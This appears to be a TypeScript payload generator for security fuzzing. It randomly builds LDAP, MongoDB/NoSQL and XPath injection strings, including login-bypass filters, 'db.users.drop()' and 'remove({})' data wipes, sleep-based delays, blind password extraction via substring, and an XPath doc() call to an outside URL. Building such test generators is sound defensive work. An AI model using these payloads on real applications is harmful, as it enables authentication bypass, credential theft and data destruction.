import type { Random } from "../random.ts"
import { digits, identifier, oneOf } from "./grammar.ts"

/** Filters (RFC 4515) that say more than the value that was asked for. */
export function ldapInjection(random: Random): string {
  const attribute = random.pick([
    "uid",
    "cn",
    "sn",
    "mail",
    "userPassword",
    "objectClass",
    "password",
    "memberOf",
    "ou",
    "givenName",
  ])
  const value = random.pick(["*", "*", "admin", "a*", identifier(random)])
  return oneOf(random, [
    () => `${random.pick(["*", "admin", identifier(random)])})(${attribute}=${value}`,
    () => `${random.pick(["*", "admin", ""])})(${random.pick(["|", "&"])}(${attribute}=${value})`,
    () => `*)(${attribute}=*))(|(${attribute}=*`,
    () => `${random.pick(["admin", identifier(random)])})(&)`,
    () =>
      `(${random.pick(["|", "&"])}(${attribute}=${value})(${random.pick(["mail", "cn", "uid"])}=*))`,
    () => `${random.pick(["*", "x"])})(!(${attribute}=${value}))(&(1=1`,
    () => `*)(${attribute}=*${random.pick(["", "%00", "))%00"])}`,
    () => `(!(${attribute}=${value}))`,
    () => `admin*)((|${attribute}=*)`,
    () => `${attribute}=*))%00`,
    () => `*(|(${attribute}=*))`,
  ])
}

/** Operators of MongoDB, as parameters, members and scripts. */
export function documentQuery(random: Random): string {
  const field = random.pick([
    "username",
    "password",
    "user",
    "login",
    "email",
    "id",
    "pass",
    "name",
    identifier(random),
  ])
  const operator = random.pick([
    "$ne",
    "$gt",
    "$regex",
    "$exists",
    "$in",
    "$nin",
    "$gte",
    "$lt",
    "$where",
    "$eq",
    "$type",
  ])
  const operand = random.pick([
    "null",
    '""',
    "1",
    "true",
    '".*"',
    '"^a"',
    '["admin"]',
    "-1",
    `"${identifier(random)}"`,
  ])
  return oneOf(random, [
    () => `${field}[${operator}]=${operand.replaceAll('"', "")}`,
    () =>
      `${field}[${operator}]=${identifier(random)}&${random.pick(["password", "pass"])}[${operator}]=${digits(random, 1)}`,
    () => `{"${field}": {"${operator}": ${operand}}}`,
    () => `{"${field}":{"${operator}":${operand}},"password":{"${operator}":${operand}}}`,
    () => `{"${operator}": ${operand}}`,
    () =>
      `{"$where": "${random.pick(["sleep(5000)", "this.password.length > 5", "1==1", "return true", "this.a == 'b'"])}"}`,
    () =>
      `${random.pick(["'", '"'])} || ${random.pick(["1==1", "'1'=='1", "true", "this.password.match(/.*/)"])}${random.pick(["//", "%00", " || '", ";//"])}`,
    () =>
      `';${random.pick(["return true", "while(1)", "return(true)", "db.users.drop()", "var d=new Date();do{c=new Date();}while(c-d<9000)"])};${random.pick(["'", "//", "var x='"])}`,
    () => `{"$or":[{"${field}":"admin"},{"a":"a"}]}`,
    () => `this.${field} ${random.pick(["==", "!="])} '${identifier(random)}' || 1==1`,
    () =>
      `db.${random.pick(["users", "accounts", identifier(random)])}.${random.pick(["find()", "insert({a:1})", "drop()", "remove({})"])}`,
    () => `"}, {"${field}": {"${operator}": ${operand}}, "x": "`,
  ])
}

/** Conditions of XPath 1.0 in place of a name, and functions that walk the document. */
export function xpathInjection(random: Random): string {
  const node = random.pick(["user", "users", "account", "employee", "node()", identifier(random)])
  const digit = random.between(1, 9)
  return random.pick([
    `' or count(${random.pick(["parent::*", "/child::node()", `//${node}`])})=${digit} or 'a'='b`,
    `'] | //${random.pick([node, "*", "text()"])} | ${random.pick(["a", identifier(random)])}['`,
    `' or name()='${node}' or 'x'='y`,
    `//${node}[${random.pick(["name", "username", "uid"])}/text()='' or '1'='1']`,
    `' and string-length(${random.pick(["//", "/*[1]/"])}${node})=${digit} and '1'='1`,
    `' and substring(//${node}[${digit}]/${random.pick(["password", "child::node()[1]"])},${digit},1)='a`,
    `') or contains(${node},'${random.pick(["a", "admin"])}') or ('`,
    `${random.pick(["doc", "document", "unparsed-text"])}('http://${identifier(random)}.com/')`,
    `string(//${node}[position()=${digit}]/${random.pick(["child::node()[position()=1]", "password", "@*"])})`,
    `count(/${random.pick(["child::node()", `*/${node}`, "*[1]/*"])})`,
    `/*/*[1]/*[${digit}]/text()`,
    `' or ..//${node}/text()!='' or '`,
  ])
}
